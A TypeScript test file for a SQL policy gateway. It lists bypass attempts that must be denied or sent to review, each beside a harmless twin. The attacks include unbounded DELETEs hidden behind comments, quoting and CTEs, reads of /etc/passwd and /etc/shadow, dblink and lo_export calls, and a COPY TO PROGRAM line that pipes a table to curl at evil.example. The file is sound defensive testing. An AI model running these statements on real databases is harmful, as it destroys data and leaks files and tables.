import { describe, expect, it } from "vitest";
import {
  inspectSql,
  resolvePreparedStatements,
  type DecisionAction,
  type PolicyDocument,
} from "../src/index";
import { demoPolicy } from "./fixtures/demo-policy";
import { decide, useParser } from "./helpers";

useParser();

/**
 * The demo policy plus one that keeps engineers out of the `secret` schema. The second
 * policy only denies: on other statements it abstains and the demo policy decides.
 */
const noSecrets: PolicyDocument = {
  name: "no-secrets",
  subjects: { groups: ["engineers"] },
  resources: { tags: { env: "demo" } },
  rules: [
    {
      id: "secret-schema",
      match: { sql: { tables: ["secret.*"] } },
      action: "deny",
      message: "the secret schema is off limits",
    },
  ],
};
const policies = [demoPolicy, noSecrets];

const DEMO = "demo-engineers";
const unbounded = `${DEMO}/block-unbounded-writes`;
const dangerousFunction = `${DEMO}/block-dangerous-functions`;
const protectedTable = `${DEMO}/protect-demo-tables`;
const deleteNeedsDba = `${DEMO}/deletes-need-dba`;
const ddlNeedsDba = `${DEMO}/ddl-needs-dba`;
const secretSchema = "no-secrets/secret-schema";

interface BypassCase {
  /** The rule the attack must not get around. */
  name: string;
  attack: string;
  /** What the attack must get: never allow. */
  expected: Exclude<DecisionAction, "allow">;
  /**
   * The rule that catches the attack, as `policy/rule-id`: one of the decision's
   * matchedRuleIds, and the review's rule when `expected` is review. Omitted only when no
   * rule matches (denied by default, or opaque); `reason` then says why.
   */
  rule?: string;
  /** A substring of one reason. */
  reason?: string;
  /** The same intent done within the rules. */
  twin: string;
  /**
   * What the twin gets: allow, unless the harmless form itself needs a DBA (a bounded
   * DELETE, DDL on another table); then review, by `twinRule`.
   */
  twinAction?: "allow" | "review";
  /** The rule that sends the twin to review. */
  twinRule?: string;
}

const cases: BypassCase[] = [
  // comments, case, whitespace, quoting
  {
    name: "a DROP of a demo table after a block comment is still a drop, and denied",
    attack: "/* harmless */ DROP TABLE customers",
    expected: "deny",
    rule: protectedTable,
    reason: "cannot be dropped",
    twin: "/* harmless */ SELECT * FROM customers",
  },
  {
    name: "a DELETE after a line comment and a newline is still seen",
    attack: "SELECT 1 -- only a select\n; DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    reason: "without a WHERE",
    twin: "SELECT 1 -- only a select\n; DELETE FROM customers WHERE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "a line comment ends at the newline",
    attack: "-- DELETE FROM x\nDELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "-- DELETE FROM x\nSELECT 1",
  },
  {
    name: "a nested block comment does not end at its first */: the DDL after it needs a DBA",
    attack: "/* /* nested */ still a comment */ DROP INDEX orders_status_idx",
    expected: "review",
    rule: ddlNeedsDba,
    reason: "approval",
    twin: "/* /* nested */ DROP INDEX orders_status_idx */ SELECT 1",
  },
  {
    name: "mixed case and odd whitespace do not hide a DELETE",
    attack: "dElEtE\n\t FROM\r\n   customers",
    expected: "deny",
    rule: unbounded,
    twin: "dElEtE\n\t FROM\r\n   customers WhErE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "no whitespace after a semicolon does not hide a DELETE",
    attack: "SELECT 1;DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "SELECT 1;DELETE FROM customers WHERE id=1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "a quoted identifier does not hide a DELETE",
    attack: 'DELETE FROM "customers"',
    expected: "deny",
    rule: unbounded,
    twin: 'DELETE FROM "customers" WHERE "id" = 1',
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "a semicolon inside a string does not start a statement",
    attack: "SELECT 'x'; DROP TABLE customers",
    expected: "deny",
    rule: protectedTable,
    twin: "SELECT ';DROP TABLE customers'",
  },
  {
    name: "dollar quoting keeps a DELETE inside a string",
    attack: "SELECT $a$ x $a$; DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "SELECT $$; DELETE FROM customers; $$",
  },
  {
    name: "a nested dollar tag does not close the outer quote",
    attack: "SELECT $q$ $$ $q$; DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "SELECT $q$ $$; DELETE FROM customers; $$ $q$",
  },
  {
    name: "an escaped quote in an E'' string keeps the DELETE inside",
    attack: "SELECT E'\\\\'; DELETE FROM customers; --'",
    expected: "deny",
    rule: unbounded,
    twin: "SELECT E'\\'; DELETE FROM customers; --'",
  },
  {
    name: "a Unicode-escaped identifier still names the secret schema",
    attack: 'SELECT * FROM U&"s\\0065cret".keys',
    expected: "deny",
    rule: secretSchema,
    reason: "off limits",
    twin: 'SELECT * FROM U&"\\0061pp".keys',
  },
  {
    name: "a quoted schema still names the secret schema",
    attack: 'SELECT * FROM "secret"."keys"',
    expected: "deny",
    rule: secretSchema,
    twin: 'SELECT * FROM "app"."keys"',
  },
  // the demo's protected tables
  {
    name: "a demo table listed after another table is still protected from DROP",
    attack: "DROP TABLE notes, customers",
    expected: "deny",
    rule: protectedTable,
    twin: "DROP TABLE notes",
    twinAction: "review",
    twinRule: ddlNeedsDba,
  },
  {
    name: "a schema-qualified demo table is still protected from DROP … IF EXISTS … CASCADE",
    attack: "DROP TABLE IF EXISTS public.orders CASCADE",
    expected: "deny",
    rule: protectedTable,
    twin: "DROP TABLE IF EXISTS public.orders_archive",
    twinAction: "review",
    twinRule: ddlNeedsDba,
  },
  // CTEs, subqueries, wrappers
  {
    name: "a CTE-wrapped DELETE without WHERE is denied",
    attack: "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
    expected: "deny",
    rule: unbounded,
    reason: "without a WHERE",
    twin: "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "a CTE-wrapped UPDATE without WHERE is denied",
    attack: "WITH u AS (UPDATE customers SET email = NULL RETURNING id) SELECT count(*) FROM u",
    expected: "deny",
    rule: unbounded,
    twin: "WITH u AS (UPDATE customers SET email = NULL WHERE id = 7 RETURNING id) SELECT count(*) FROM u",
  },
  {
    name: "a DELETE under a read-only CTE is denied",
    attack: "WITH x AS (SELECT 1) DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "WITH x AS (SELECT 1) DELETE FROM customers WHERE id IN (SELECT * FROM x)",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "WHERE true is no WHERE",
    attack: "DELETE FROM customers WHERE true",
    expected: "deny",
    rule: unbounded,
    twin: "DELETE FROM customers WHERE active = true",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "a secret table in a subquery is found",
    attack: "SELECT * FROM app.orders WHERE id IN (SELECT id FROM secret.keys)",
    expected: "deny",
    rule: secretSchema,
    twin: "SELECT * FROM app.orders WHERE id IN (SELECT id FROM app.refunds)",
  },
  {
    name: "a secret table behind a CTE of the same name is found",
    attack: "WITH keys AS (SELECT * FROM secret.keys) SELECT * FROM keys",
    expected: "deny",
    rule: secretSchema,
    twin: "WITH keys AS (SELECT * FROM app.keys) SELECT * FROM keys",
  },
  {
    name: "COPY (DELETE … RETURNING) is a delete",
    attack: "COPY (DELETE FROM customers RETURNING *) TO STDOUT",
    expected: "deny",
    rule: unbounded,
    twin: "COPY (SELECT * FROM customers) TO STDOUT",
  },
  // multi-statement and transactions
  {
    name: "SELECT 1; DROP TABLE is judged by the DROP",
    attack: "SELECT 1; DROP TABLE customers",
    expected: "deny",
    rule: protectedTable,
    reason: "statement 2 (drop)",
    twin: "SELECT 1; SELECT 2",
  },
  {
    name: "SELECT 1; DELETE is judged by the DELETE",
    attack: "SELECT 1; DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "SELECT 1; DELETE FROM customers WHERE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "BEGIN … COMMIT around a denied statement is denied",
    attack: "BEGIN; DELETE FROM customers; COMMIT",
    expected: "deny",
    rule: unbounded,
    twin: "BEGIN; DELETE FROM customers WHERE id = 1; COMMIT",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  // opaque SQL
  {
    name: "a DO block is opaque and denied",
    attack: "DO $$ BEGIN UPDATE customers SET email = NULL WHERE id = 1; END $$",
    expected: "deny",
    reason: "DO blocks are opaque",
    twin: "UPDATE customers SET email = NULL WHERE id = 1",
  },
  {
    name: "a DO block with another tag and language is denied",
    attack: "DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$",
    expected: "deny",
    reason: "DO blocks are opaque",
    twin: "SELECT 1",
  },
  {
    name: "CREATE FUNCTION wrapping a DELETE needs approval (its body is opaque)",
    attack: "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM customers $$",
    expected: "review",
    rule: ddlNeedsDba,
    twin: "DELETE FROM customers WHERE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "a SQL-standard function body with a DELETE without WHERE is denied",
    attack:
      "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END",
    expected: "deny",
    rule: unbounded,
    twin: "DELETE FROM customers WHERE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "CREATE RULE whose action deletes everything is denied",
    attack: "CREATE RULE r AS ON INSERT TO notes DO ALSO DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "INSERT INTO notes VALUES (1)",
  },
  {
    name: "a function that runs SQL text is denied",
    attack: "SELECT query_to_xml('delete from customers returning *', true, true, '')",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT table_name FROM information_schema.tables",
  },
  // prepared statements and cursors
  {
    name: "PREPARE cannot smuggle a DELETE without WHERE",
    attack: "PREPARE p AS DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "PREPARE p (int) AS DELETE FROM customers WHERE id = $1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "PREPARE then EXECUTE in one string is judged by the prepared statement",
    attack: "PREPARE p AS DELETE FROM customers; EXECUTE p",
    expected: "deny",
    rule: unbounded,
    twin: "PREPARE p (int) AS DELETE FROM customers WHERE id = $1; EXECUTE p (1)",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "EXECUTE of a statement the gateway did not track is opaque and denied",
    attack: "EXECUTE unknown_plan",
    expected: "deny",
    reason: "prepared statement",
    twin: "PREPARE known AS SELECT 1",
  },
  {
    name: "a cursor over a dangerous function is denied",
    attack: "DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')",
    expected: "deny",
    rule: dangerousFunction,
    twin: "DECLARE c CURSOR FOR SELECT * FROM customers",
  },
  // side-effect functions
  {
    name: "pg_terminate_backend inside a SELECT is denied",
    attack: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    expected: "deny",
    rule: dangerousFunction,
    reason: "function",
    twin: "SELECT pid FROM pg_stat_activity",
  },
  {
    name: "pg_cancel_backend in a WHERE is denied",
    attack: "SELECT * FROM customers WHERE pg_cancel_backend(42)",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT * FROM customers WHERE id = 42",
  },
  {
    name: "schema-qualified pg_read_file is denied",
    attack: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT pg_catalog.lower('X')",
  },
  {
    name: "a quoted function name is denied",
    attack: "SELECT \"pg_read_binary_file\"('/etc/shadow')",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT \"lower\"('X')",
  },
  {
    name: "pg_ls_dir as a table function is denied",
    attack: "SELECT * FROM pg_ls_dir('/')",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT * FROM generate_series(1, 3)",
  },
  {
    name: "lo_export in INSERT VALUES is denied",
    attack: "INSERT INTO notes VALUES (lo_export(1234, '/tmp/x'))",
    expected: "deny",
    rule: dangerousFunction,
    twin: "INSERT INTO notes VALUES (lower('x'))",
  },
  {
    name: "lo_import is denied",
    attack: "SELECT lo_import('/etc/passwd')",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT length('/etc/passwd')",
  },
  {
    name: "dblink_exec inside a CTE is denied",
    attack:
      "WITH r AS (SELECT dblink_exec('dbname=postgres', 'DROP TABLE customers')) SELECT * FROM r",
    expected: "deny",
    rule: dangerousFunction,
    twin: "WITH r AS (SELECT count(*) FROM customers) SELECT * FROM r",
  },
  {
    name: "dblink installed in another schema is still denied by dblink*",
    attack: "SELECT * FROM ext.dblink('dbname=x', 'select 1') AS t(a int)",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT * FROM ext.safe_fn()",
  },
  {
    name: "set_config, which can change search_path unseen, is denied",
    attack: "SELECT set_config('search_path', 'secret', false)",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SET search_path = app",
  },
  {
    name: "pg_reload_conf is denied",
    attack: "SELECT pg_reload_conf()",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT current_setting('work_mem')",
  },
  {
    name: "pg_rotate_logfile is denied",
    attack: "SELECT pg_rotate_logfile()",
    expected: "deny",
    rule: dangerousFunction,
    twin: "SELECT now()",
  },
  // COPY and EXPLAIN
  {
    name: "COPY TO PROGRAM is denied",
    attack: "COPY customers TO PROGRAM 'curl -d @- http://evil.example'",
    expected: "deny",
    rule: `${DEMO}/block-copy-program`,
    reason: "shell command",
    twin: "COPY customers TO STDOUT",
  },
  {
    name: "COPY FROM PROGRAM is denied",
    attack: "COPY customers FROM PROGRAM 'cat /etc/passwd'",
    expected: "deny",
    rule: `${DEMO}/block-copy-program`,
    twin: "COPY customers FROM STDIN",
  },
  {
    name: "COPY to a server file is denied",
    attack: "COPY customers TO '/tmp/dump.csv'",
    expected: "deny",
    rule: `${DEMO}/block-copy-server-files`,
    reason: "server file",
    twin: "COPY customers TO STDOUT WITH (FORMAT csv)",
  },
  {
    name: "EXPLAIN ANALYZE DELETE runs the delete, so it is denied",
    attack: "EXPLAIN ANALYZE DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "EXPLAIN DELETE FROM customers",
  },
  {
    name: "EXPLAIN (ANALYZE, FORMAT JSON) DELETE is denied",
    attack: "EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM customers",
    expected: "deny",
    rule: unbounded,
    twin: "EXPLAIN (ANALYZE false, FORMAT JSON) DELETE FROM customers",
  },
  // search path
  {
    name: "SET search_path then an unqualified name reaches the secret schema",
    attack: "SET search_path = secret; SELECT * FROM keys",
    expected: "deny",
    rule: secretSchema,
    reason: "off limits",
    twin: "SET search_path = app; SELECT * FROM keys",
  },
  // other disguises of writes and DDL
  {
    name: "SELECT INTO creates a table, which needs approval",
    attack: "SELECT * INTO loot FROM customers",
    expected: "review",
    rule: ddlNeedsDba,
    twin: "SELECT * FROM customers",
  },
  {
    name: "TRUNCATE of a demo table, even with ONLY and a schema, is denied by protect-demo-tables",
    attack: "TRUNCATE ONLY public.customers",
    expected: "deny",
    rule: protectedTable,
    reason: "cannot be dropped or emptied",
    twin: "DELETE FROM customers WHERE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "TRUNCATE of another table is not a DELETE with WHERE and is denied by default",
    attack: "TRUNCATE notes",
    expected: "deny",
    reason: "denied by default",
    twin: "DELETE FROM notes WHERE id = 1",
    twinAction: "review",
    twinRule: deleteNeedsDba,
  },
  {
    name: "ALTER SYSTEM needs approval",
    attack: "ALTER SYSTEM SET log_statement = 'none'",
    expected: "review",
    rule: ddlNeedsDba,
    twin: "SET statement_timeout = '5s'",
  },
  {
    name: "LOAD of a library is denied by default",
    attack: "LOAD 'evil'",
    expected: "deny",
    reason: "denied by default",
    twin: "SHOW work_mem",
  },
  {
    name: "MERGE is not in any allow list and is denied",
    attack: "MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN DELETE",
    expected: "deny",
    reason: "denied by default",
    twin: "UPDATE customers SET email = s.email FROM staging s WHERE customers.id = s.id",
  },
];

describe("bypass corpus (demo policy + a secret-schema policy)", () => {
  describe.each(cases)(
    "$name",
    ({ attack, expected, rule, reason, twin, twinAction = "allow", twinRule }) => {
      it(`attack is ${expected}${rule === undefined ? "" : ` by ${rule}`}`, () => {
        const d = decide(attack, {}, policies);
        expect(d.action, d.reasons.join(" | ")).toBe(expected);
        if (rule !== undefined) expect(d.matchedRuleIds).toContain(rule);
        else expect(reason, "a case without a rule says why in reason").toBeDefined();
        if (expected === "review") expect(d.review?.ruleId).toBe(rule);
        if (reason !== undefined) expect(d.reasons.join(" | ")).toContain(reason);
      });
      it(
        twinAction === "allow" ? "twin is allowed" : `twin is ${twinAction} by ${twinRule}`,
        () => {
          const d = decide(twin, {}, policies);
          expect(d.reasons).toEqual(expect.any(Array));
          expect(d.action, d.reasons.join(" | ")).toBe(twinAction);
          if (twinAction === "review") {
            expect(twinRule, "a twin sent to review names its rule").toBeDefined();
            expect(d.review?.ruleId).toBe(twinRule);
          }
        },
      );
    },
  );

  it("a search path given by the caller resolves an unqualified name into the secret schema", () => {
    expect(
      decide("SELECT * FROM keys", { searchPath: ["secret", "public"] }, policies).action,
    ).toBe("deny");
    expect(decide("SELECT * FROM keys", { searchPath: ["app"] }, policies).action).toBe("allow");
  });

  it("EXECUTE resolved by the caller is judged by the prepared statement: a DELETE without WHERE is denied, a bounded one needs a DBA, a bounded UPDATE is allowed", () => {
    const prepared = (sql: string) => inspectSql(sql).statements[0]!.prepared!.statement!;
    const bad = prepared("PREPARE p AS DELETE FROM customers");
    const bounded = prepared("PREPARE p AS DELETE FROM customers WHERE id = 1");
    const update = prepared("PREPARE p AS UPDATE customers SET email = NULL WHERE id = 1");
    const facts = (s: typeof bad) => resolvePreparedStatements(inspectSql("EXECUTE p"), () => s);
    expect(decide("EXECUTE p", { facts: facts(bad) }, policies).action).toBe("deny");
    const held = decide("EXECUTE p", { facts: facts(bounded) }, policies);
    expect(held.action).toBe("review");
    expect(held.review?.ruleId).toBe(deleteNeedsDba);
    expect(decide("EXECUTE p", { facts: facts(update) }, policies).action).toBe("allow");
  });

  it("a 1 MB statement is inspected in full: a DELETE at its end is found", () => {
    const ids = Array.from({ length: 160_000 }, (_, i) => i).join(",");
    const long = `SELECT * FROM customers WHERE id IN (${ids})`;
    expect(long.length).toBeGreaterThan(900_000);
    expect(decide(long, {}, policies).action).toBe("allow");
    expect(decide(`${long}; DELETE FROM customers`, {}, policies).action).toBe("deny");
  });

  it("a statement nested past the parser's depth limit is unparseable and denied with the parser's message", () => {
    const deep = `SELECT ${"(SELECT ".repeat(20_000)}1${")".repeat(20_000)}`;
    const d = decide(deep, {}, policies);
    expect(d.action).toBe("deny");
    expect(d.facts.statements[0]!.kind).toBe("unparseable");
    expect(d.reasons.join(" ")).toMatch(/could not be parsed.*(memory exhausted|too deeply)/);
    const shallow = `SELECT ${"(SELECT ".repeat(50)}1${")".repeat(50)}`;
    expect(decide(shallow, {}, policies).action).toBe("allow");
  });

  it("a statement nested just deep enough to overflow the stack is denied, not crashed", () => {
    const deep = `SELECT ${"(SELECT ".repeat(3_000)}1${")".repeat(3_000)}`;
    expect(decide(deep, {}, policies).action).toBe("deny");
    expect(decide("SELECT 1", {}, policies).action).toBe("allow");
  });

  it("with standard_conforming_strings off, a backslash makes the text ambiguous and it is denied", () => {
    const sql = "SELECT 'a\\'; DELETE FROM customers; --'";
    const d = decide(sql, { standardConformingStrings: false }, policies);
    expect(d.action).toBe("deny");
    expect(d.reasons.join(" ")).toContain("standard_conforming_strings");
    expect(decide("SELECT 'plain'", { standardConformingStrings: false }, policies).action).toBe(
      "allow",
    );
  });
});
